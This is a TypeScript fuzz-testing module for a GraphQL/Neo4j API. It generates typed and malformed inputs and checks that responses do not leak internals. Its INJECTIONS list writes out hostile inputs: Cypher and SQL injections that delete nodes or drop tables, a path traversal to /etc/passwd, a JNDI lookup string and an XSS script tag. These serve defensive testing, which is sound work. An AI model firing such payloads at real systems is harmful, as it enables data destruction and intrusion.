import fc from 'fast-check';
import {
  getNamedType,
  type GraphQLInputType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
} from 'graphql';

/**
 * What an attacker types into a text box: Cypher, Lucene, SQL, unicode tricks, templates, huge
 * strings.
 */
export const INJECTIONS: readonly string[] = [
  `' OR 1=1 //`,
  `"}) MATCH (n) DETACH DELETE n //`,
  `x' }) WITH 1 AS x MATCH (n) DETACH DELETE n RETURN 1 //`,
  '530103"}) CALL db.labels() YIELD label RETURN label //',
  '`) DETACH DELETE n //',
  '$ids',
  '*:* OR name:*',
  '枫桥 AND (x OR y:*) ~2 [* TO *] \\',
  '1; DROP TABLE regions; --',
  "' OR '1'='1' --",
  "Region:530103' OR 1=1 //",
  'Practice:../../../../etc/passwd',
  ':',
  '\u0000\u0001\u001f',
  '\u202Egnp.exe\u200B\uFEFF',
  '\uD800 lone surrogate \uDFFF',
  '👩‍👩‍👧‍👦 Ｒｅｇｉｏｎ：５３０１０３ e\u0301',
  '{{7*7}} ${jndi:ldap://x/a} %s%s%n',
  '<script>alert(1)</script>',
  'x'.repeat(50_000),
  '枫'.repeat(20_000),
];

/**
 * Codes a client's mistake may get; anything else (INTERNAL_SERVER_ERROR, INTEGRITY_ERROR …) is a
 * fault.
 */
export const CLIENT_CODES: ReadonlySet<string> = new Set([
  'BAD_USER_INPUT',
  'NOT_FOUND',
  'GRAPHQL_PARSE_FAILED',
  'GRAPHQL_VALIDATION_FAILED',
  'OPERATION_RESOLUTION_FAILURE',
  'QUERY_TOO_COMPLEX',
  'BAD_REQUEST',
  'PAYLOAD_TOO_LARGE',
  'PERSISTED_QUERY_NOT_FOUND',
  'UNAUTHENTICATED',
  'FORBIDDEN',
]);
export const CLIENT_STATUSES: ReadonlySet<number> = new Set([200, 400, 401, 403, 405, 413, 415]);

/**
 * Words that betray internals in a message: driver, stack frames, file paths, JavaScript faults.
 */
const INTERNAL =
  /Neo4jError|neo4j-driver|node_modules|\/src\/|\.ts:\d|TypeError|ReferenceError|Cannot read propert|is not a function/;

export interface Outcome {
  readonly status: number;
  readonly codes: string[];
  readonly ms: number;
  readonly problems: string[];
}

/** Per-request limit: no request, however hostile, may hang the server. */
export const REQUEST_TIMEOUT_MS = 15_000;

/**
 * Sends one request and judges the answer: a client error with its code (or data), JSON, nothing
 * internal.
 */
export async function send(
  url: string,
  body: string,
  headers: Record<string, string> = {},
): Promise<Outcome> {
  const started = performance.now();
  const res = await fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body,
    signal: AbortSignal.timeout(REQUEST_TIMEOUT_MS),
  });
  const text = await res.text();
  const ms = performance.now() - started;
  const problems: string[] = [];
  let json:
    { errors?: Array<{ message?: string; extensions?: Record<string, unknown> }> } | undefined;
  try {
    json = JSON.parse(text) as typeof json;
  } catch {
    problems.push(`not JSON: ${text.slice(0, 80)}`);
  }
  const errors = json?.errors ?? [];
  const codes = errors.map((e) => String(e.extensions?.code ?? 'NONE'));
  if (!CLIENT_STATUSES.has(res.status)) problems.push(`status ${res.status}`);
  for (const code of codes) if (!CLIENT_CODES.has(code)) problems.push(`code ${code}`);
  for (const e of errors) {
    if (e.extensions && 'stacktrace' in e.extensions) problems.push('stacktrace');
    if (INTERNAL.test(e.message ?? ''))
      problems.push(`internal message: ${e.message!.slice(0, 120)}`);
  }
  return { status: res.status, codes, ms, problems };
}

/** Counts of outcomes per kind of request, printed as a table. */
export class Tally {
  private readonly rows = new Map<string, Map<string, number>>();
  private slowest = 0;

  add(kind: string, outcome: Outcome): void {
    const key = `${outcome.status} ${[...new Set(outcome.codes)].sort().join('+') || 'data'}`;
    const row = this.rows.get(kind) ?? new Map<string, number>();
    row.set(key, (row.get(key) ?? 0) + 1);
    this.rows.set(kind, row);
    this.slowest = Math.max(this.slowest, outcome.ms);
  }

  get total(): number {
    return [...this.rows.values()].reduce(
      (sum, row) => sum + [...row.values()].reduce((a, b) => a + b, 0),
      0,
    );
  }

  print(title: string): void {
    const lines = [...this.rows].map(
      ([kind, row]) => `  ${kind.padEnd(34)} ${[...row].map(([k, n]) => `${k} ×${n}`).join(', ')}`,
    );
    console.log(
      `${title}: ${this.total} requests, slowest ${Math.round(this.slowest)} ms\n${lines.join('\n')}`,
    );
  }
}

/**
 * Values for a variable of `type`: mostly well-typed and often plausible, sometimes hostile or of
 * the wrong type.
 */
export function valueFor(type: GraphQLInputType, depth = 0): fc.Arbitrary<unknown> {
  const inner = isNonNullType(type) ? type.ofType : type;
  const wrong = fc.oneof(fc.anything({ maxDepth: 1 }), fc.constant(null));
  const right = depth > 3 ? fc.constant(null) : wellTyped(inner, depth);
  return fc.oneof({ arbitrary: right, weight: 8 }, { arbitrary: wrong, weight: 1 });
}

function wellTyped(type: GraphQLInputType, depth: number): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return wellTyped(type.ofType, depth);
  if (isListType(type))
    return fc.oneof(
      { arbitrary: fc.array(valueFor(type.ofType, depth + 1), { maxLength: 4 }), weight: 9 },
      {
        arbitrary: fc.array(valueFor(type.ofType, depth + 1), { minLength: 90, maxLength: 130 }),
        weight: 1,
      },
    );
  if (isEnumType(type))
    return fc.oneof(
      { arbitrary: fc.constantFrom(...type.getValues().map((v) => v.name)), weight: 5 },
      { arbitrary: fc.string(), weight: 1 },
    );
  if (isInputObjectType(type)) {
    const fields = Object.values(type.getFields());
    return fc.record(Object.fromEntries(fields.map((f) => [f.name, valueFor(f.type, depth + 1)])), {
      requiredKeys: fields.filter((f) => isNonNullType(f.type)).map((f) => f.name),
    });
  }
  switch (getNamedType(type).name) {
    case 'Int':
      return fc.oneof(
        fc.integer({ min: -2, max: 120 }),
        fc.integer(),
        fc.constantFrom(1_000_000, 2 ** 31, -(2 ** 31) - 1),
      );
    case 'Float':
      return fc.double();
    case 'Boolean':
      return fc.boolean();
    default:
      return fc.oneof(
        fc.string({ maxLength: 30 }),
        fc.string({ unit: 'binary', maxLength: 30 }),
        fc.constantFrom(...INJECTIONS.filter((s) => s.length < 1000)),
        fc.constantFrom(
          '530103',
          '5301',
          'fengqiao-experience',
          'Region:530103',
          'Practice:dayingshequ-one-plus-four',
          'GovernanceModel:fengqiao-experience',
          Buffer.from('o:5').toString('base64url'),
          '2020-06',
        ),
      );
  }
}
